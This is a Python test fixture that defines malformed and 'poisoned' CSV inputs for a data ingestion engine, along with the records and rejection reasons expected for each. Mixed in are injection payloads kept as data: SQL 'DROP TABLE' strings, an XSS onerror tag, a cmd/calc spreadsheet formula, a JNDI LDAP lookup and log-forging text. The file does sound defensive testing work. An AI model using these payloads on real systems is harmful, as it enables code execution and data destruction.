"""CSV that is poisoned, each kind with two good records around it where its defect lets them be."""

from __future__ import annotations

from tests.poison.kinds import Kind, Record, whole

HEAD, BEFORE, AFTER = b"id,name\n", b"g1,before\n", b"g2,after\n"
GOOD = ({"id": "g1", "name": "before"}, {"id": "g2", "name": "after"})
FIX: tuple[bytes, Record] = (b"9,mended\n", {"id": "9", "name": "mended"})
WHOLE_FIX: tuple[bytes, Record] = (b"id,name\n9,mended\n", {"id": "9", "name": "mended"})


def lands(name: str, body: bytes, *records: Record) -> Kind:
    return Kind(name, HEAD + BEFORE + body + AFTER, (*GOOD, *records))


def one(name: str, raw: bytes, reason: str) -> Kind:
    """One reject between two good records."""
    return Kind(name, HEAD + BEFORE + raw + AFTER, GOOD, ((raw, reason),), FIX)


def text(name: str, value: str) -> Kind:
    """A value that must land as it is, quoted."""
    return lands(name, b'3,"' + value.replace('"', '""').encode() + b'"\n', {"id": "3", "name": value})


def header(name: str, content: bytes, reason: str) -> Kind:
    return whole(name, content, reason, WHOLE_FIX)


ENCODINGS = [
    Kind("bom", b"\xef\xbb\xbf" + HEAD + BEFORE + AFTER, GOOD),
    lands("bom-inside", "\ufeff3,x\n".encode(), {"id": "\ufeff3", "name": "x"}),
    header("utf16-le", "\ufeffid,name\n1,a\n".encode("utf-16-le"), "its header is not UTF-8"),
    header("utf16-be-no-bom", "id,name\n1,a\n".encode("utf-16-be"), "its header holds a NUL byte"),
    header("utf32", "id,name\n1,a\n".encode("utf-32"), "its header is not UTF-8"),
    Kind(
        "mixed-utf16",
        HEAD + BEFORE + "3,é\n".encode("utf-16-le") + AFTER,
        GOOD[:1],
        ((b"3\0,\0\xe9\0\n", "NUL byte"), (b"\0" + AFTER, "NUL byte")),
        FIX,
    ),
    one("latin-1", b"3,\xe9t\xe9\n", "it is not UTF-8: byte 2 of the record is 0xe9"),
    one("cp1252", b"3,\x93x\x94\n", "it is not UTF-8"),
    one("shift-jis", "3,表\n".encode("shift-jis"), "it is not UTF-8"),
    one("overlong", b"3,\xc0\x80\n", "it is not UTF-8"),
    one("lone-surrogate", b"3,\xed\xa0\x80\n", "it is not UTF-8"),
    one("beyond-unicode", b"3,\xf4\x90\x80\x80\n", "it is not UTF-8"),
    one("nul", b"3,a\0b\n", "it holds a NUL byte"),
    Kind("torn-character", HEAD + BEFORE + b"3,\xc3", GOOD[:1], ((b"3,\xc3", "it is not UTF-8"),), FIX),
]
STRUCTURE = [
    one("quote-never-closed", b'3,"open\n', "a quote is not closed or stands inside a field"),
    Kind("quote-open-at-end", HEAD + BEFORE + b'3,"open', GOOD[:1], ((b'3,"open', "a quote is not closed"),), FIX),
    one("quote-inside", b'3,a"b\n', "a quote is not closed or stands inside a field"),
    one("text-after-quote", b'3,"a"b\n', "a quote is not closed or stands inside a field"),
    one("backslash-escape", b'3,"a\\"b"\n', "a quote is not closed or stands inside a field"),
    lands("newline-in-quotes", b'3,"a\nb"\n', {"id": "3", "name": "a\nb"}),
    lands("crlf-in-quotes", b'3,"a\r\nb"\r\n', {"id": "3", "name": "a\r\nb"}),
    lands("doubled-quotes", b'3,"a""b"\n', {"id": "3", "name": 'a"b'}),
    lands("quoted-delimiter", b'3,"a,b"\n', {"id": "3", "name": "a,b"}),
    one("ragged-short", b"3\n", "it has 1 fields where the header has 2"),
    one("ragged-long", b"3,a,b\n", "it has 3 fields where the header has 2"),
    one("ragged-with-newline", b'3,"a\nb",c\n', "it has 3 fields where the header has 2"),
    one("delimiter-drift", b"3;a\n", "it has 1 fields where the header has 2"),
    one("delimiter-drift-tab", b"3\ta\n", "it has 1 fields where the header has 2"),
    one("comment", b"# made by hand\n", "it has 1 fields"),
    one("footer", b"2 rows selected.\n", "it has 1 fields"),
    lands("blank-lines", b"\n\r\n\n"),
    lands("only-a-delimiter", b",\n", {}),
    lands("mixed-line-ends", b"3,a\r\n4,b\n", {"id": "3", "name": "a"}, {"id": "4", "name": "b"}),
    Kind("torn-row", HEAD + BEFORE + b"3", GOOD[:1], ((b"3", "it may be torn"),), FIX),
    Kind("no-last-line-break", HEAD + BEFORE + AFTER.rstrip(), GOOD),
    Kind("header-alone", HEAD),
]
HEADERS = [
    header("empty", b"", "the file is empty"),
    header("only-blank-lines", b"\n\r\n", "the file is empty"),
    header("only-a-bom", b"\xef\xbb\xbf", "the file is empty"),
    header("doubled-header", b"id,id\n1,2\n", "the column 'id' is there twice"),
    header("case-clash-header", b"id,ID\n1,2\n", "is there twice"),
    header("punctuation-clash", b"a b,a;b\n1,2\n", "is there twice"),
    header("nameless-column", b"id,\n1,2\n", "column 2 has no name"),
    header("engine-column", b"id,_kind\n1,2\n", "has a name that bronze keeps for itself"),
    header("open-quote-header", b'id,"name\n1,2\n', "its header is not CSV"),
    header("nul-header", b"id,na\0me\n1,2\n", "its header holds a NUL byte"),
    header("latin-1-header", b"id,pr\xe9nom\n1,2\n", "its header is not UTF-8"),
    header("line-ends-of-old", b"id,name\r1,a\r2,b\r", "a carriage return"),
    Kind("sql-in-a-header", b'id,"x`; DROP TABLE s; --"\n1,a\n', ({"id": "1", "x_DROP_TABLE_s_--": "a"},)),
    Kind("html-in-a-header", b"id,<script>\n1,a\n", ({"id": "1", "<script>": "a"},)),
    Kind("log-forged-header", b'id,"a\nERROR forged"\n1,b\n', ({"id": "1", "a_ERROR_forged": "b"},)),
    Kind("dots-in-a-header", b"id,a.b.c\n1,x\n", ({"id": "1", "a.b.c": "x"},)),
    Kind("unicode-header", "id,größe,数\n1,x,y\n".encode(), ({"id": "1", "größe": "x", "数": "y"},)),
]
VALUES = [
    lands("number-beyond-double", b"3,1e400\n", {"id": "3", "name": "1e400"}),
    lands("leading-zeros", b"0003,007\n", {"id": "0003", "name": "007"}),
    lands("beyond-long", b"3,9223372036854775808\n", {"id": "3", "name": "9223372036854775808"}),
    lands("not-available", b"NA,NULL\n", {"id": "NA", "name": "NULL"}),
    lands("nan", b"NaN,-Infinity\n", {"id": "NaN", "name": "-Infinity"}),
    lands("negative-zero", b"-0,-0.0\n", {"id": "-0", "name": "-0.0"}),
    lands("year-1", b"3,0001-01-01\n", {"id": "3", "name": "0001-01-01"}),
    lands("null-and-empty", b'3,""\n4,\n', {"id": "3", "name": ""}, {"id": "4"}),
    lands("spaces-kept", b" 3 , a\t\n", {"id": " 3 ", "name": " a\t"}),
    lands("doubled-key", b"g1,before\n", {"id": "g1", "name": "before"}),
    text("zero-width-space", "\u200bada\u200d"),
    text("line-separators", "a\u2028b\u0085c\u2029d\x0be"),
    text("bidi-override", "\u202egnp.exe"),
    text("not-a-character", "\ufffe\uffff\U0010ffff"),
    text("control-characters", "\x01\x1b[31m\x7f\x08"),
    text("formula", '=HYPERLINK("http://x","y")'),
    text("command-formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    text("sql", "'); DROP TABLE bronze; --"),
    text("html", "<img src=x onerror=alert(1)>"),
    text("log-forging", "x\n2026-01-01 ERROR forged\r\nok"),
    text("template", "${env:HOME} ${jndi:ldap://x/a} {{7*7}} %s%n"),
    text("spark-null-option", "\\N"),
]
CSV = [*ENCODINGS, *STRUCTURE, *HEADERS, *VALUES]
